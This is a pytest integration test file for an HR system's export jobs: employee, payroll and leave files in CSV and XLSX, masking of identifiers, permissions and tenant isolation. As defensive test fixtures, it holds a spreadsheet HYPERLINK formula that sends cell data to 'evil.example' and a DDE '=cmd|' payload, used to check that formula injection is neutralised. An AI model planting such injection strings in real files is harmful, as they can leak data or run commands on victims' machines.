"""Exports against the embedded stack: the service records a job and its outbox event, the worker
(`hrms.exports.worker.handle`, fed the envelope of that outbox row) writes the file to S3 (moto), and
the presigned download parses back, for every kind in both formats."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any
from uuid import UUID, uuid4

import httpx
import openpyxl
import pytest
from psycopg import sql

from hrms.approvals import service as approvals
from hrms.approvals.models import DecisionIn
from hrms.db import tenant_clock
from hrms.db.postgres import tenant_tx
from hrms.employees import service as employees
from hrms.employees.models import NewEmployee
from hrms.errors import Forbidden, Invalid, NotFound
from hrms.exports import repo, service, worker
from hrms.exports.models import Export, NewExport
from hrms.outbox.envelope import Envelope
from hrms.tenancy import Actor, Tenant
from tests.integration.leave_world import World
from tests.integration.test_payroll import Payroll

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
PHONE = "+91 98765 43210"


# ---------------------------------------------------------------- helpers


def request(world: World, actor: Actor | None = None, **body: Any) -> UUID:
    return service.create_export(world.tenant, actor or world.admin, NewExport.model_validate(body)).export_id


def envelope(world: World, export_id: UUID) -> Envelope:
    """The envelope the outbox publishes for the export's `export.requested` row."""
    found = world.query(
        sql.SQL("SELECT event_id, event_type, payload, created_at FROM {} WHERE payload->>'exportId' = %s").format(
            world.t("outbox")
        ),
        (str(export_id),),
    )
    assert len(found) == 1
    row = found[0]
    return Envelope(row["event_id"], row["event_type"], world.tenant.tenant_id, row["created_at"], row["payload"])


def run_worker(world: World, export_id: UUID) -> Export:
    worker.handle(world.tenant, envelope(world, export_id))
    return service.get_export(world.tenant, world.admin, export_id)


def export(world: World, **body: Any) -> Export:
    done = run_worker(world, request(world, **body))
    assert done.status == "succeeded", done.failure
    return done


def download(done: Export) -> bytes:
    assert done.download_url is not None
    response = httpx.get(done.download_url)
    assert response.status_code == 200
    return response.content


def table(done: Export, sheet: str | None = None) -> list[dict[str, Any]]:
    """The file's rows as {header: value}; CSV values are text, XLSX values typed."""
    content = download(done)
    if done.format == "csv":
        reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        found = list(reader)
        return [r for r in found if sheet is None or r.get("section") == sheet]
    book = openpyxl.load_workbook(io.BytesIO(content))
    rows = list(book[sheet or book.sheetnames[0]].iter_rows(values_only=True))
    header = [str(h) for h in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def money(done: Export, value: Any) -> Decimal:
    """A money cell read back: CSV keeps the decimal's text; XLSX a number."""
    if done.format == "csv":
        assert isinstance(value, str)
        return Decimal(value)
    return Decimal(str(value))


def day(done: Export, value: Any) -> dt.date:
    if done.format == "csv":
        return dt.date.fromisoformat(value)
    assert isinstance(value, dt.datetime)  # a date cell
    return value.date()


def count(world: World, table_name: str) -> int:
    return int(world.query(sql.SQL("SELECT count(*) AS n FROM {}").format(world.t(table_name)))[0]["n"])


def hire(world: World, **fields: Any) -> UUID:
    body = {
        "email": f"{uuid4().hex[:10]}@example.com",
        "firstName": "Asha",
        "lastName": "Rao",
        "departmentId": str(world.department_id),
        "designationId": str(world.designation_id),
        "dateOfJoining": "2024-01-01",
        **fields,
    }
    return employees.create_employee(world.tenant, world.admin, "all", NewEmployee.model_validate(body)).employee_id


FORMATS = pytest.mark.parametrize("file_format", ["csv", "xlsx"])


# ---------------------------------------------------------------- employees


@FORMATS
def test_employees_export_masks_identifiers_and_keeps_hostile_text_as_text(world: World, file_format: str) -> None:
    manager = hire(world, firstName="Meera", email="meera@example.com")
    hire(
        world,
        firstName=HOSTILE_NAME,
        lastName="-1+1",
        phone=PHONE,
        pan="abcde1234f",
        aadhaar="2341 2341 2346",
        managerId=str(manager),
        email="hostile@example.com",
    )
    done = export(world, kind="employees", format=file_format)

    rows = {r["email"]: r for r in table(done)}
    assert done.row_count == 2 == len(rows)
    with tenant_tx(world.tenant) as tx:  # the day requested is the tenant's, not UTC's (they differ near midnight)
        requested_on = done.created_at.astimezone(tenant_clock.zone(tx)).date()
    assert done.period == requested_on.isoformat() and done.file_name == f"employees-{done.period}.{file_format}"
    hostile = rows["hostile@example.com"]
    # Formula-like text comes back with the leading quote: never a formula, and the data is intact.
    assert hostile["firstName"] == "'" + HOSTILE_NAME and hostile["lastName"] == "'-1+1"
    assert hostile["phone"] == "'" + PHONE
    assert (hostile["panMasked"], hostile["aadhaarMasked"]) == ("XXXXX1234X", "XXXX-XXXX-2346")
    assert (hostile["departmentCode"], hostile["departmentName"], hostile["designationTitle"]) == (
        "ENG",
        "Engineering",
        "Engineer",
    )
    assert hostile["managerEmail"] == "meera@example.com" and hostile["status"] == "active"
    assert day(done, hostile["dateOfJoining"]) == dt.date(2024, 1, 1)
    assert rows["meera@example.com"]["managerEmail"] in (None, "")
    assert rows["meera@example.com"]["phone"] in (None, "")
    content = download(done)
    assert b"ABCDE1234F" not in content and b"234123412346" not in content


def test_employees_are_streamed_in_batches_in_code_order(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(repo, "BATCH", 2)  # five employees: three queries, across two batch boundaries
    for _ in range(5):
        world.hire()
    done = export(world, kind="employees", format="csv")
    codes = [r["employeeCode"] for r in table(done)]
    assert codes == sorted(codes) and len(set(codes)) == 5 == done.row_count


# ---------------------------------------------------------------- payroll register


@FORMATS
def test_payroll_register_has_a_column_per_component_and_exact_money(world: World, file_format: str) -> None:
    payroll = Payroll(world)
    full = payroll.hire()
    joiner = payroll.hire(joined="2026-03-10")
    run = payroll.run()
    done = export(world, kind="payroll-register", month="2026-03", format=file_format)

    assert done.payroll_run_id == run.payroll_run_id and done.period == "2026-03" and done.row_count == 2
    rows = table(done)
    assert list(rows[0]) == [
        "employeeCode",
        "email",
        "firstName",
        "lastName",
        "departmentCode",
        "departmentName",
        "paidDays",
        "basic (earning)",
        "hra (earning)",
        "special (earning)",
        "pf (deduction)",
        "pt (deduction)",
        "gross",
        "deductions",
        "net",
    ]
    records = payroll.records(run.payroll_run_id)
    by_code = {r["employeeCode"]: r for r in rows}
    for employee in (full, joiner):
        record = records[employee]
        line = by_code[record.employee_code]
        for component in record.components:
            assert money(done, line[f"{component.code} ({component.kind})"]) == component.amount
        assert [money(done, line[k]) for k in ("gross", "deductions", "net")] == [
            record.gross,
            record.deductions,
            record.net,
        ]
        assert money(done, line["paidDays"]) == record.paid_days
    assert money(done, by_code[records[joiner].employee_code]["basic (earning)"]) == Decimal("28387.10")
    if file_format == "csv":
        assert by_code[records[joiner].employee_code]["basic (earning)"] == "28387.10"  # the decimal, as stored


def test_payroll_register_leaves_a_component_an_employee_does_not_have_empty(world: World) -> None:
    payroll = Payroll(world)
    payroll.hire()
    other = world.hire()
    from hrms.payroll import salaries
    from hrms.payroll.models import NewEmployeeSalary, NewSalaryStructure

    lean = [{"code": "basic", "name": "Basic", "kind": "earning", "calc": "fixed", "value": "31000"}]
    structure = salaries.create_structure(
        world.tenant, world.admin, NewSalaryStructure.model_validate({"name": "Lean", "components": lean})
    )
    body = {
        "salaryStructureId": str(structure.salary_structure_id),
        "annualCtc": "372000",
        "effectiveFrom": "2024-01-01",
    }
    salaries.assign_salary(world.tenant, world.admin, other, NewEmployeeSalary.model_validate(body))
    payroll.run()
    done = export(world, kind="payroll-register", month="2026-03", format="csv")
    lean_line = next(r for r in table(done) if r["gross"] == "31000.00")
    assert (
        lean_line["basic (earning)"] == "31000.00"
        and lean_line["hra (earning)"] == ""
        and lean_line["net"] == "31000.00"
    )


def test_a_month_without_a_payroll_run_is_refused_before_anything_is_written(world: World) -> None:
    Payroll(world).hire()
    with pytest.raises(Invalid) as refused:
        request(world, kind="payroll-register", month="2026-03", format="csv")
    assert refused.value.errors[0]["field"] == "body.month"
    assert count(world, "exports") == 0 and count(world, "outbox") == 0


def test_a_run_rejected_after_the_request_fails_the_export_with_its_reason(world: World) -> None:
    payroll = Payroll(world)
    payroll.hire()
    run = payroll.run()
    export_id = request(world, kind="payroll-register", month="2026-03", format="xlsx")
    hr = world.user(None, "hr_manager")
    approvals.decide_approval(world.tenant, hr, run.approval_id, DecisionIn(decision="reject"))

    done = run_worker(world, export_id)
    assert done.status == "failed" and done.download_url is None and done.finished_at is not None
    assert done.failure is not None and "rejected" in done.failure


# ---------------------------------------------------------------- leave


@FORMATS
def test_leave_export_has_the_years_balances_and_requests(world: World, file_format: str) -> None:
    employee = world.hire()
    requester = world.user(employee, "employee")
    world.request(requester, "2024-02-05", "2024-02-07", reason="=cmd|' /C calc'!A0")
    world.request(requester, "2024-03-04", "2024-03-04", code="sick", halfDay="first")
    done = export(world, kind="leave", year=2024, format=file_format)

    balances, requests = table(done, "balances"), table(done, "requests")
    assert done.period == "2024" and done.row_count == len(balances) + len(requests) == 4 + 2
    annual = next(b for b in balances if b["leaveType"] == "annual")
    assert [money(done, annual[k]) for k in ("allocated", "used", "pending", "available")] == [
        Decimal(18),
        Decimal(0),
        Decimal(3),
        Decimal(15),
    ]
    first, second = requests
    assert (first["leaveType"], day(done, first["startDate"]), day(done, first["endDate"])) == (
        "annual",
        dt.date(2024, 2, 5),
        dt.date(2024, 2, 7),
    )
    assert first["reason"] == "'=cmd|' /C calc'!A0" and first["status"] == "pending"
    assert money(done, first["days"]) == 3 and money(done, second["days"]) == Decimal("0.5")
    assert second["halfDay"] == "first"
    if file_format == "csv":
        assert next(iter(balances[0])) == "section"  # one table: a spreadsheet user filters on it


def test_leave_export_defaults_to_the_current_leave_year(world: World) -> None:
    export_id = request(world, kind="leave", format="csv")
    with_year = service.get_export(world.tenant, world.admin, export_id)
    assert with_year.period == str(dt.date.today().year)  # a January-start tenant


# ---------------------------------------------------------------- the job


def test_request_writes_the_job_and_its_event_in_one_go(world: World) -> None:
    export_id = request(world, kind="employees", format="csv")
    job = service.get_export(world.tenant, world.admin, export_id)
    assert (job.status, job.row_count, job.download_url, job.started_at) == ("queued", None, None, None)
    event = envelope(world, export_id)
    assert event.type == "export.requested" and event.payload == {"exportId": str(export_id)}
    actions = world.audit_actions(export_id)
    assert actions == ["export.created"]


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        ({"kind": "payroll-register", "format": "csv"}, ["body.month"]),
        ({"kind": "employees", "format": "csv", "month": "2026-03"}, ["body.month"]),
        ({"kind": "employees", "format": "csv", "year": 2024}, ["body.year"]),
        ({"kind": "leave", "format": "csv", "month": "2026-03"}, ["body.month"]),
        ({"kind": "payroll-register", "format": "csv", "year": 2024}, ["body.year", "body.month"]),
    ],
)
def test_a_period_that_does_not_fit_the_kind_is_refused(world: World, body: dict[str, Any], fields: list[str]) -> None:
    with pytest.raises(Invalid) as refused:
        request(world, **body)
    assert [e["field"] for e in refused.value.errors] == fields
    assert count(world, "exports") == 0 and count(world, "outbox") == 0


@pytest.mark.parametrize(
    ("kind", "grants", "needed"),
    [
        ("employees", ("exports:write", "employees:read:team"), "employees:read"),
        ("payroll-register", ("exports:write", "employees:read", "salaries:read"), "payroll:read"),
        ("leave", ("exports:write", "leave:read:self"), "leave:read"),
    ],
)
def test_exporting_needs_the_kinds_read_permission_for_everyone(
    world: World, kind: str, grants: tuple[str, ...], needed: str
) -> None:
    payroll = Payroll(world)
    payroll.hire()
    payroll.run()
    narrow = Actor(str(uuid4()), "hr_manager", world.tenant, permissions=grants)
    body: dict[str, Any] = {"kind": kind, "format": "csv"}
    if kind == "payroll-register":
        body["month"] = "2026-03"
    with pytest.raises(Forbidden) as refused:
        request(world, narrow, **body)
    assert refused.value.extra["permission"] == needed
    assert count(world, "exports") == 0

    made = request(world, **body)  # the admin's export: the narrow caller may not download it either
    with pytest.raises(Forbidden):
        service.get_export(world.tenant, narrow, made)


def test_a_redelivered_event_of_a_finished_export_changes_nothing(world: World) -> None:
    world.hire()
    export_id = request(world, kind="employees", format="xlsx")
    first = run_worker(world, export_id)
    again = run_worker(world, export_id)  # at-least-once delivery: the same event a second time
    assert (again.status, again.finished_at, again.row_count) == ("succeeded", first.finished_at, first.row_count)
    assert world.audit_actions(export_id) == ["export.created", "export.started", "export.updated"]


def test_a_job_running_past_its_deadline_reads_failed_and_a_redelivery_records_it(world: World) -> None:
    export_id = request(world, kind="employees", format="csv")
    long_ago = dt.datetime.now(dt.UTC) - service.RUN_DEADLINE - dt.timedelta(minutes=1)
    world.query(
        sql.SQL("UPDATE {} SET status = 'running', started_at = %s WHERE id = %s").format(world.t("exports")),
        (long_ago, export_id),
    )
    shown = service.get_export(world.tenant, world.admin, export_id)
    assert (shown.status, shown.failure) == ("failed", service.OVERDUE)

    worker.handle(world.tenant, envelope(world, export_id))  # its message comes back: recorded as failed
    stored = world.query(
        sql.SQL("SELECT status, failure FROM {} WHERE id = %s").format(world.t("exports")), (export_id,)
    )
    assert stored == [{"status": "failed", "failure": service.OVERDUE}]


def test_another_tenants_export_is_not_found(world: World, other_tenant: Any) -> None:
    export_id = request(world, kind="employees", format="csv")
    other = World.create(other_tenant)
    with pytest.raises(NotFound):
        service.get_export(other.tenant, other.admin, export_id)
    with pytest.raises(NotFound):
        service.get_export(world.tenant, world.admin, uuid4())


def test_an_event_of_another_tenants_export_does_nothing_here(world: World, other_tenant: Any) -> None:
    export_id = request(world, kind="employees", format="csv")
    other = Tenant(other_tenant.tenant_id, other_tenant.schema_name)
    stray = Envelope(
        uuid4(), "export.requested", other.tenant_id, dt.datetime.now(dt.UTC), {"exportId": str(export_id)}
    )
    worker.handle(other, stray)
    assert service.get_export(world.tenant, world.admin, export_id).status == "queued"
